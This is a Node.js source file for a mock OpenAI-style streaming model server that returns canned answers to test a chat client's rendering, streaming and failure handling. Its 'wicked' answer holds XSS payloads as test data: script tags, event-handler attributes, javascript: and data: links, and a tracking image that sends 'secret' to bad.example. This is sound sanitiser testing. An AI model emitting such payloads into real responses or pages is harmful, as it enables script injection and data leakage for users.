// A model server that says what it is told to, at 60 tokens a second: what no model says when one asks it. Run: node scenarios/engine.mjs
// It speaks OpenAI's protocol; the real server stands before it (SERVE_ENGINE=openai). A word of the prompt chooses the answer.
import { createServer } from "node:http";

const WICKED = `<script>window.hit=1</script><img src="https://bad.example/a.png" onerror="window.hit=1"><iframe src="https://bad.example"></iframe>

![track](https://bad.example/b.png?q=secret) [one](javascript:window.hit=1) [two](JaVaScRiPt:window.hit=1) [three](data:text/html;base64,PHNjcmlwdD4=) <a href="https://bad.example" onclick="window.hit=1">four</a>

<svg onload="window.hit=1"><style>@import "https://bad.example/c.css"</style></svg> ![x][r] **broken [ \`

[r]: https://bad.example/d.png

| a |
|---|
| <form action="https://bad.example"><input autofocus onfocus="window.hit=1"></form> |

The end of the wicked answer.`;
const PART = (n) => `## Part ${n}\n\nThe ferry left at *nine*, and **${n}** people stood on the deck; it rained. I had a [list](https://ok.example/${n}) with me:\n\n- rope, 3 m\n- \`a kettle\`\n- one more thing that I had forgotten\n\n> She said so twice.\n\n| what | how many |\n|---|---|\n| rungs | ${n} |\n\n\`\`\`\nfor (;;) row()\n\`\`\`\n\n`;
const ANSWERS = {
  wicked: { text: WICKED, rate: 200 },
  long: { text: Array.from({ length: 9 }, (_, n) => PART(n + 1)).join("") + "The end of the long answer.", rate: 60 },
  rtl: { text: "שלום לכולם 🛶 זה טקסט מימין לשמאל.\n\nمرحبا بالعالم 👩‍👩‍👧‍👦\n\nThe end of the mixed answer.", rate: 60 },
  dies: { text: "Half a sentence, and then the engine", rate: 60, dies: true },
  slow: { text: "tick ".repeat(400), rate: 20 },
  facts: { text: "The ferry left at 9:30 with 12 goats on Tuesday.", rate: 200 },
};
let plans = 0;
/** What is said to a prompt. `echo:` gives what follows it, `who` the system message, an outline is another one each time. */
function said(messages) {
  const asked = messages.at(-1).content;
  const echo = asked.match(/echo:\s*([\s\S]*)/)?.[1];
  if (echo) return { text: echo, rate: 400 };
  if (/\bwho\b/i.test(asked)) return { text: messages[0].content, rate: 200 };
  if (asked.includes("section headings")) {
    plans++;
    return { text: ["Rungs", "Rope", "Paint", "Rain"].map((heading) => `- ${heading}, plan ${plans}`).join("\n"), rate: 200 };
  }
  return ANSWERS[Object.keys(ANSWERS).find((word) => new RegExp(`\\b${word}\\b`, "i").test(asked))] ?? { text: "As you like.", rate: 60 };
}
const pieces = (text) => text.match(/\s*\S{1,4}|\s+$/gu) ?? []; // about as long as tokens are
const wait = (ms) => new Promise((done) => setTimeout(done, ms));

const server = createServer(async (request, response) => {
  let body = "";
  for await (const part of request) body += part;
  if (request.method !== "POST") return response.end(JSON.stringify({ object: "list", data: [{ id: "remote", object: "model" }] }));
  const { text, rate, dies } = said(JSON.parse(body).messages);
  const chunk = (delta, finish = null) => `data: ${JSON.stringify({ id: "1", object: "chat.completion.chunk", created: 1, model: "remote", choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
  response.writeHead(200, { "Content-Type": "text/event-stream" });
  const begun = performance.now();
  for (const [n, content] of pieces(text).entries()) {
    if (response.destroyed) return;
    response.write(chunk({ role: "assistant", content }));
    await wait(begun + (1000 * (n + 1)) / rate - performance.now()); // late once is not late for ever
  }
  if (dies) return response.destroy();
  response.write(chunk({}, "stop"));
  response.write(`data: ${JSON.stringify({ id: "1", object: "chat.completion.chunk", created: 1, model: "remote", choices: [], usage: { prompt_tokens: 1, completion_tokens: pieces(text).length, total_tokens: 1 + pieces(text).length } })}\n\n`);
  response.end("data: [DONE]\n\n");
});
server.listen(0, "127.0.0.1", () => console.log(`http://127.0.0.1:${server.address().port}/v1`));
